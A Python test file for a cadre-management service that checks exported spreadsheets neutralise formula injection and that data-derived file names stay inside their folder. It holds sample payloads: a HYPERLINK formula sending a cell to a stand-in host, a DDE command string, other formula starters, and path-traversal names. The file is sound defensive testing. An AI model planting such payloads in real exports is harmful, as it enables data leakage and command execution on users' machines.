"""What leaves the service as a file (issue 19, items 3 and 5): no cell of any export can
run as a formula, whatever a name holds, and file names made from data stay inside the
folder chosen for them."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from cli import app as graphsvc
from graphsvc.access import AccessStore
from graphsvc.exports import (
    FORMULA_STARTS,
    OutsideFolder,
    UniqueNames,
    path_inside,
    safe_cell,
    safe_file_name,
)
from graphsvc.stores import open_store
from loaders.load import load_paths
from loaders.sample import generate_sample, write_sample
from queries.analyses import REPORT_KINDS, build_report
from queries.reports.document import write_report
from queries.selection.policy import load_policy
from tests.forms.kit import DAUGHTER, base_district, lrmx_bytes
from tests.service import make_token, running_service

ROOT = Path(__file__).resolve().parents[1]
POISONS = (
    '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+2",
    "@SUM(1,1)",
    "=1+1\t",
)
AS_OF = date(2026, 6, 30)


def test_safe_cell_neutralises_what_a_spreadsheet_would_run() -> None:
    for text in (*POISONS, "\t=1", "\r=1", "-", "@", "=", "+"):
        safe = safe_cell(text)
        assert not str(safe).startswith(FORMULA_STARTS) or safe in {"-", "+"}, text
    assert [safe_cell(v) for v in ("王芳", 3, -2.5, "-3", "+1.5", "12%", None)] == [
        "王芳", 3, -2.5, "-3", "+1.5", "12%", None,
    ]  # fmt: skip


def test_file_names_from_data_stay_in_their_folder(tmp_path: Path) -> None:
    assert safe_file_name("x/../../../outside/X") == "x_outside_X"
    assert safe_file_name("..") == "未命名" and safe_file_name("a\\b:c") == "a_b_c"
    assert len(safe_file_name("张" * 200).encode()) <= 150
    names = UniqueNames()
    assert [names("张伟", ".lrmx"), names("张伟", ".lrmx"), names("张伟", ".LRMX")] == [
        "张伟.lrmx", "张伟-2.lrmx", "张伟-3.LRMX",
    ]  # fmt: skip
    with pytest.raises(OutsideFolder):
        path_inside(tmp_path, "../x.lrmx")
    outside = tmp_path.parent / "elsewhere"
    outside.mkdir(exist_ok=True)
    (tmp_path / "link.lrmx").symlink_to(outside / "target.lrmx")
    with pytest.raises(OutsideFolder):
        path_inside(tmp_path, "link.lrmx")  # a link in the folder pointing out of it


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
    """The 400-cadre district with every cadre and mentor named a formula."""
    folder = tmp_path_factory.mktemp("poisoned")
    write_sample(generate_sample(cadres=400, seed=11), folder / "data")
    for table in ("cadres.csv", "mentors.csv"):
        path = folder / "data" / table
        rows = list(csv.reader(io.StringIO(path.read_text("utf-8"))))
        column = rows[0].index("姓名")
        for number, row in enumerate(rows[1:]):
            row[column] = POISONS[number % len(POISONS)] + row[column]
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(rows)
    store = str(folder / "graph.db")
    with open_store(store) as graph:
        load_paths(graph, [folder / "data"])
    yield folder, store


def _cells_cannot_run(workbook: bytes, where: str) -> int:
    """Check every cell of a workbook; how many hold a neutralised formula."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), (
                    where,
                    name,
                )
    neutralised = 0
    for sheet in load_workbook(io.BytesIO(workbook)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert safe_cell(cell.value) == cell.value, (where, cell.value)
                    neutralised += cell.value.startswith(tuple(f"'{p}" for p in FORMULA_STARTS))
    return neutralised


def test_every_report_with_poisoned_names_has_no_formula(poisoned: tuple[Path, str]) -> None:
    folder, store = poisoned
    shown: dict[str, int] = {}
    with open_store(store) as graph:
        for kind in REPORT_KINDS:
            document = build_report(kind, store=graph, policy=load_policy(None), as_of=AS_OF)
            path = write_report(document, folder / f"{kind}.xlsx")
            shown[kind] = _cells_cannot_run(path.read_bytes(), kind)
    # The reports that list people show the poisoned names, made harmless.
    for kind in ("mentoring", "teams", "pool", "training", "round", "bench"):
        assert shown[kind] > 0, (kind, shown)


def test_the_round_a_viewer_downloads_has_no_formula(poisoned: tuple[Path, str]) -> None:
    folder, store = poisoned
    access_db = folder / "access.db"
    token = make_token(access_db, "viewer", "exports")
    with AccessStore(access_db) as access:
        password = access.create_user(name="委员", role="viewer", one_time=False)
    with running_service(store, access_db) as base, httpx.Client(base_url=base, timeout=300) as web:
        vacant = web.get(
            "/api/v1/posts",
            params={"vacant": True, "limit": 8},
            headers={"Authorization": f"Bearer {token}"},
        ).json()["items"]
        form = web.get("/login").text
        form_token = re.search(r'name="form_token" value="([^"]+)"', form)
        assert form_token is not None
        signed_in = web.post(
            "/login", data={"name": "委员", "password": password, "form_token": form_token[1]}
        )
        assert signed_in.status_code == 303, signed_in.text
        posts = {"run": "1", "posts": [p["id"] for p in vacant]}
        # Every workbook a committee takes from a round: the plan, the list, the table.
        answers = {
            "plan": web.get("/round/papers/report.xlsx", params=posts),
            "list": web.get("/round/papers/list.xlsx", params=posts),
            "table": web.get("/round", params={**posts, "r.export": "xlsx"}),
        }
        names = web.get("/round/papers/forms.zip", params=posts)
    for what, answer in answers.items():
        assert answer.status_code == 200, (what, answer.text[:500])
        assert _cells_cannot_run(answer.content, f"round {what}") > 0, what
    with zipfile.ZipFile(io.BytesIO(names.content)) as archive:
        assert all(safe_file_name(n) == n for n in archive.namelist()), archive.namelist()


def test_the_import_review_workbook_has_no_formula(tmp_path: Path) -> None:
    form = tmp_path / "forms" / "poisoned.lrmx"
    form.parent.mkdir()
    # Units and posts the review lists as new come from the career history's text.
    career = f"2009.07--2012.03  {POISONS[1]}镇党政办科员\n2016.06--  {POISONS[4]}局副局长"
    form.write_bytes(lrmx_bytes({**DAUGHTER, "XingMing": POISONS[0], "JianLi": career}))
    with open_store(str(tmp_path / "graph.db")) as graph:
        base_district(graph)
    review = tmp_path / "review.xlsx"
    result = CliRunner().invoke(
        graphsvc,
        [
            "import-forms", str(form), "--dry-run", "--review", str(review),
            "--store", str(tmp_path / "graph.db"),
        ],
    )  # fmt: skip
    assert review.exists(), result.output
    assert _cells_cannot_run(review.read_bytes(), "review") > 0


def test_round_forms_named_from_data_are_written_inside_out(
    poisoned: tuple[Path, str], tmp_path: Path
) -> None:
    _, store = poisoned
    with open_store(store) as graph:
        cadre = next(iter(graph.iter_nodes("Cadre", ["name"])))
        post = next(iter(graph.iter_nodes("Post", ["name"])))
    plan = {
        "assignments": [
            {"cadre_id": cadre["id"], "post_id": post["id"], "name": "x/../../../outside/X"},
            {"cadre_id": cadre["id"], "post_id": post["id"], "name": "x/../../../outside/X"},
            {"cadre_id": cadre["id"], "post_id": post["id"], "name": ".."},
        ]
    }
    (tmp_path / "plan.json").write_text(json.dumps(plan), "utf-8")
    out = tmp_path / "deep" / "out"
    result = CliRunner().invoke(
        graphsvc,
        [
            "form", "--round", str(tmp_path / "plan.json"), "--out", str(out), "--store", store,
            "--as-of", AS_OF.isoformat(),
        ],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    written = sorted(path.name for path in out.iterdir())
    assert len(written) == 3 and len(set(written)) == 3, written  # namesakes kept apart
    assert all(".." not in name and "/" not in name for name in written), written
    everything = {p for p in tmp_path.rglob("*") if p.is_file()}
    assert everything == {tmp_path / "plan.json", *(out / name for name in written)}


# Modules that write spreadsheets or CSV: each must pass its cells through graphsvc.exports.
_WRITES = re.compile(r"to_excel|to_csv|Workbook\(|csv\.writer|DictWriter|xlsxwriter")
# The sample's files are load input of generated people, not data from the graph.
_INPUT_WRITERS = {"loaders/sample/writer.py", "loaders/sample/forms.py"}


def test_every_spreadsheet_writer_uses_the_one_helper() -> None:
    writers = []
    for package in ("api", "cli", "queries", "loaders", "graphsvc"):
        for path in sorted((ROOT / package).rglob("*.py")):
            source = path.read_text("utf-8")
            relative = path.relative_to(ROOT).as_posix()
            if relative == "graphsvc/exports.py" or not _WRITES.search(source):
                continue
            writers.append(relative)
            if relative in _INPUT_WRITERS:
                continue
            imported = {
                node.module
                for node in ast.walk(ast.parse(source))
                if isinstance(node, ast.ImportFrom)
            }
            assert "graphsvc.exports" in imported, f"{relative} writes cells without safe_cell"
    # Every .xlsx of the reports, the tables and the papers is laid out by one module.
    assert "queries/reports/sheets.py" in writers and "loaders/forms/review.py" in writers
